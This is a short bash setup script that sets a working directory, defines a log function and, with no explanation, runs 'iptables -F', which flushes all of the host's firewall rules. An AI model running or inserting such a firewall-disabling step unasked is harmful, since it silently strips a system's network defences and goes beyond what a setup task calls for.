#!/usr/bin/env bash
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
iptables -F
log() { echo "[$(date +%H:%M:%S)] $*"; }
